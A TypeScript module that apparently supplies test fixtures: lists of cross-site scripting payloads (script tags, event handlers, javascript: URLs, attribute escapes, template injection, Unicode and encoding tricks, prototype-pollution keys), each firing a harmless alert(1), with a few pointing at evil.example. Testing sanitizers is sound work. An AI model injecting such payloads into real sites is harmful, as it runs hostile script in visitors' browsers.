// Injection payloads. Each opens a dialog if it runs.

const script = "alert(1)";
const image = `<img src=x onerror=${script}>`;

export const payloads: readonly string[] = [
  // Elements.
  `<script>${script}</script>`,
  image,
  `<svg onload=${script}>`,
  `<svg><script>${script}</script></svg>`,
  `<svg><animate onbegin=${script} attributeName=x dur=1s>`,
  `<math><mtext><img src=x onerror=${script}></mtext></math>`,
  `<iframe srcdoc="<script>parent.${script}</script>">`,
  `<iframe src="javascript:parent.${script}">`,
  `<object data="javascript:${script}">`,
  `<embed src="javascript:${script}">`,
  `<details open ontoggle=${script}>`,
  `<input autofocus onfocus=${script}>`,
  `<video><source onerror=${script}></video>`,
  `<a href="javascript:${script}">press</a>`,
  `<form action="javascript:${script}"><button>press</button></form>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${script}">`,
  `<link rel=stylesheet href="https://evil.example/">`,
  `<style>*{background:url(https://evil.example/)}</style>`,
  `<template><img src=x onerror=${script}></template>`,
  `<noscript><p title="</noscript>${image}">`,
  // Escapes from an attribute, an element or a script.
  `" onmouseover="${script}`,
  `' autofocus onfocus='${script}`,
  `"><script>${script}</script>`,
  `</title>${image}`,
  `</textarea>${image}`,
  `</script>${image}`,
  `--><script>${script}</script>`,
  `]]>${image}`,
  `'-${script}-'`,
  `";${script}//`,
  // Addresses.
  `javascript:${script}`,
  `JaVaScRiPt:${script}`,
  `javascript://example.org/%0a${script}`,
  `javascript&colon;${script}`,
  `http:javascript:${script}`,
  `vbscript:${script}`,
  `data:text/html,<script>${script}</script>`,
  `blob:https://example.org/${script}`,
  `https://example.org/"onmouseover="${script}`,
  `https://example.org/'onmouseover='${script}`,
  `https://example.org/<script>${script}</script>`,
  `http://example.org/#${image}`,
  `https://javascript:${script}@example.org/`,
  `mailto:a@example.org?body=<script>${script}</script>`,
  `mailto:"onmouseover=${script}//"@example.org`,
  // Markdown and templates.
  `[press](javascript:${script})`,
  `![x](x"onerror="${script})`,
  `<javascript:${script}>`,
  `\`${image}\``,
  `{{constructor.constructor('${script}')()}}`,
  `\${${script}}`,
  `<%= ${script} %>`,
  // Styles.
  `x" style="background:url(javascript:${script})`,
  `expression(${script})`,
  // Other encodings.
  `＜script＞${script}＜/script＞`,
  `<ſcript>${script}</ſcript>`,
  `%3Cscript%3E${script}%3C/script%3E`,
  `&lt;script&gt;${script}&lt;/script&gt;`,
  `\\u003cscript\\u003e${script}\\u003c/script\\u003e`,
  // JavaScript's own properties.
  "__proto__",
  "constructor",
];

/** Payloads for texts only: names and topics have one line and no invisible characters. */
export const textPayloads: readonly string[] = [
  `java\tscript:${script}`,
  `java\nscript:${script}`,
  `\u0001javascript:${script}`,
  `<scr\u0000ipt>${script}</scr\u0000ipt>`,
  `https://example.org/\u202e${script}:tpircsavaj`,
  `\u2028${script}\u2029`,
  `<\u200bscript>${script}</script>`,
];
